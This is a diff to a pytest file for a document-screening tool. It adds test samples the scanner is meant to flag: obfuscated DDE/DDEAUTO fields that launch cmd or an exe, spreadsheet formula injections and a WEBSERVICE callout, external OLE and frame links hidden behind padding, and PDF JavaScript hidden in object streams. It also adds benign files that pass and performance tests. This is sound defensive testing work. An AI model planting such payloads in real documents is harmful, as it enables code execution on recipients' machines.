@@ -2,7 +2,10 @@
 
 import gzip
 import time
+import zlib
 from email.message import EmailMessage
+from io import BytesIO
+from zipfile import ZIP_BZIP2, ZIP_LZMA, ZipFile
 
 import pytest
 from hypothesis import given, settings
@@ -28,6 +31,39 @@ def a_saved_mail(name: str, content: bytes) -> bytes:
     mail.set_content("See the file.")
     mail.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
     return mail.as_bytes()
+
+
+def a_field(*pieces: str) -> bytes:
+    """A Word document with a field, its instruction in so many pieces."""
+    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{it}</w:instrText></w:r>" for it in pieces)
+    return a_docx({"word/document.xml": f"<w:document><w:p>{runs}</w:p></w:document>".encode()})
+
+
+def a_link(kind: str) -> bytes:
+    """To something elsewhere, its attributes in no order that anybody promised."""
+    said = f"Target='http://x.example/a>b' TargetMode = 'Extern&#97;l' Type='http://x.example/relationships/{kind}'"
+    return f"<Relationships><Relationship Id='r1' {said}/></Relationships>".encode()
+
+
+def a_packed_pdf(
+    said: bytes = b"/Type /ObjStm", objects: bytes = b"<< /S /JavaScript /JS (x) >>", named: bool = True
+) -> bytes:
+    """One whose objects are in an object stream."""
+    said += b" /Filter /FlateDecode" if named else b""
+    packed = zlib.compress(objects)
+    stream = b"2 0 obj\n<< %s /N 1 /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
+        said,
+        len(packed),
+        packed,
+    )
+    return PDF.replace(b"trailer", stream + b"trailer")
+
+
+def a_zip_by(how: int) -> bytes:
+    made = BytesIO()
+    with ZipFile(made, "w", how) as archive:
+        archive.writestr("a", EXE)
+    return made.getvalue()
 
 
 HELD = {
@@ -114,6 +150,76 @@ HELD = {
     "one over two lines": ("a.csv", b'Ann,"=1+\n cmd|\'/C calc\'!A0"\n', Danger.ACTIVE),
     "one that fetches": ("a.csv", b'a,=IF(1,WEBSERVICE("http://x.example/"&A1))', Danger.ACTIVE),
     "one by the old function": ("a.csv", b'a,=DDE("cmd";"/C calc";"x")', Danger.ACTIVE),
+    "a field that starts a program": ("a.docx", a_field("DDEAUTO c:\\\\a.exe"), Danger.ACTIVE),
+    "one in pieces": ("a.docx", a_field("DD", "EAU", "TO c:\\\\a.exe"), Danger.ACTIVE),
+    "one in a comment's clothes": ("a.docx", a_field("D<!--x-->D<![CDATA[E]]> c:\\\\a.exe"), Danger.ACTIVE),
+    "one in entities": ("a.docx", a_field("&#68;DE c:\\\\a.exe"), Danger.ACTIVE),
+    "one spelt in numbers": ("a.docx", a_field("QUOTE 68 68 69 65"), Danger.ACTIVE),
+    "a field in wide letters": (
+        "a.docx",
+        a_docx({"word/header1.xml": "\ufeff<w:fldSimple w:instr=' DDE x y'/>".encode("utf-16-le")}),
+        Danger.ACTIVE,
+    ),
+    "one in an old document": (
+        "a.doc",
+        an_ole({"WordDocument": b"\xec\xa5" + b"\0" * 90 + "\x13 DDEAUTO c:\\a".encode("utf-16-le")}),
+        Danger.ACTIVE,
+    ),
+    "one in rich text": (
+        "a.rtf", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\a}}}", Danger.ACTIVE
+    ),
+    "a workbook linked with a program": (
+        "a.xlsx", a_docx({"xl/externalLinks/externalLink1.xml": b"<ddeLink a='cmd'/>"}), Danger.ACTIVE
+    ),
+    "an ODF document linked with a program": (
+        "a.ods",
+        a_zip({"mimetype": b"x", "content.xml": b"<office:dde-source office:dde-application='cmd'/>"}),
+        Danger.ACTIVE,
+    ),
+    "an object from elsewhere": (
+        "a.docx", a_docx({"word/_rels/document.xml.rels": a_link("oleObject")}), Danger.ACTIVE
+    ),
+    "one behind padding": (
+        "a.docx",
+        a_docx({"word/_rels/document.xml.rels": b" " * 100_000 + a_link("oleObject")}),
+        Danger.ACTIVE,
+    ),
+    "a frame from elsewhere": (
+        "a.docx", a_docx({"word/_rels/webSettings.xml.rels": a_link("frame")}), Danger.ACTIVE
+    ),
+    "links longer than are looked through": (
+        "a.docx", a_docx({"word/_rels/document.xml.rels": b" " * 3_000_000}), Danger.UNREADABLE
+    ),
+    "a library by its ending": ("a.library-ms", b"x", Danger.EXECUTABLE),
+    "a library by another": ("a.txt", b"<?xml version='1.0'?><libraryDescription>", Danger.EXECUTABLE),
+    "a remote desktop": ("a.rdp", b"x", Danger.EXECUTABLE),
+    "one by another name": ("a.txt", b"screen mode id:i:2\nfull address:s:x.example\n", Danger.EXECUTABLE),
+    "a data link": ("a.udl", b"x", Danger.EXECUTABLE),
+    "one in wide letters by another name": (
+        "a.txt", "\ufeff[oledb]\r\nProvider=x".encode("utf-16-le"), Danger.EXECUTABLE
+    ),
+    "a query by another name": ("a.txt", b"WEB\r\n1\r\nhttp://a.example", Danger.EXECUTABLE),
+    "a symbolic link sheet by another name": ("a.csv", b"ID;PWXL;N;E\r\nC;X1;Y1\r\n", Danger.MACROS),
+    "a PDF with a packed script": ("a.pdf", a_packed_pdf(), Danger.ACTIVE),
+    "one that spells it oddly": ("a.pdf", a_packed_pdf(objects=b"<< /S /Java#53cript >>"), Danger.ACTIVE),
+    "one whose packing is spelt oddly": ("a.pdf", a_packed_pdf(b"/Type /Obj#53tm"), Danger.ACTIVE),
+    "one packed otherwise": (
+        "a.pdf", a_packed_pdf(b"/Type /ObjStm /Filter /LZWDecode", named=False), Danger.UNLISTED
+    ),
+    "one packed twice": (
+        "a.pdf",
+        a_packed_pdf(b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", named=False),
+        Danger.UNLISTED,
+    ),
+    "a program in an archive packed otherwise": ("a.zip", a_zip_by(ZIP_LZMA), Danger.UNLISTED),
+    "one packed otherwise again": ("a.zip", a_zip_by(ZIP_BZIP2), Danger.UNLISTED),
+    "a sheet of macros behind much else": (
+        "a.xls",
+        an_ole({"Workbook": (b"\xe0\0\x14\0" + b"\0" * 20) * 4000
+                + b"\x85\0\x08\0" + b"\0" * 5 + b"\1\0\0"}),
+        Danger.MACROS,
+    ),
+    "a workbook of Excel 4 by itself": ("a.xls", b"\x09\x04\x06\0" + b"\0" * 40, Danger.MACROS),
 }  # fmt: skip
 
 PASSED = {
@@ -131,6 +237,15 @@ PASSED = {
     "minutes that quote a mail": ("minutes.txt", b"From: Ann\nSubject: Minutes\n\nWe met on Monday.\n"),
     "an invitation": ("a.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"),
     "no name at all": ("", b"text"),
+    "a document with ordinary fields": ("a.docx", a_field(" PAGE ", " TOC o ", " HYPERLINK x ")),
+    "a document that speaks of DDE": ("a.docx", a_docx({"word/document.xml": b"<w:t>DDE, DDEAUTO</w:t>"})),
+    "a document with a link to click": (
+        "a.docx",
+        a_docx({"word/_rels/document.xml.rels": a_link("hyperlink")}),
+    ),
+    "a PDF with packed objects": ("a.pdf", a_packed_pdf(objects=b"<< /Type /Page >>")),
+    "a table of postcodes": ("a.csv", b"ID;Postcode;Name\r\n1;LS1 1AA;Ann\r\n"),
+    "a text about an address": ("a.txt", b"His full address: see below.\n"),
     "a table of numbers": ("a.csv", b"name,owed\nAnn,-5.20\nBob,-3\n-1,-2\n"),
     "a table of telephone numbers": (
         "a.csv",
@@ -194,3 +309,21 @@ def test_behind_the_wall_the_same_is_found_and_what_kills_the_child_is_held() ->
         screen.close()
     hasty = SafeScreen(timeout=0.0001)
     assert {it.danger for it in hasty("a.txt", b"text").findings} == {Danger.UNREADABLE}
+
+
+@pytest.mark.parametrize("piece", [b"1 0 obj<</Type/ObjStm>>stream\n", b"obj stream\n", b"#41#", b"stream\n"])
+def test_a_pdf_of_one_piece_is_looked_at_in_time_that_grows_with_it(piece: bytes) -> None:
+    content = b"%PDF-1.7\n" + piece * (2_000_000 // len(piece))
+    began = time.process_time()
+    look("a.pdf", content)
+    look("a.pdf", content + b"endstream")
+    assert time.process_time() - began < 4
+
+
+@pytest.mark.parametrize("piece", [b"<!--", b"<![CDATA[", b"<a instr='", b"<w:instrText>", b"<", b"-->"])
+def test_a_part_of_one_piece_is_looked_at_in_time_that_grows_with_it(piece: bytes) -> None:
+    part = piece * (2_000_000 // len(piece))
+    content = a_zip({"[Content_Types].xml": b"", "word/document.xml": part, "a.rels": part}, packed=False)
+    began = time.process_time()
+    look("a.docx", content)
+    assert time.process_time() - began < 4
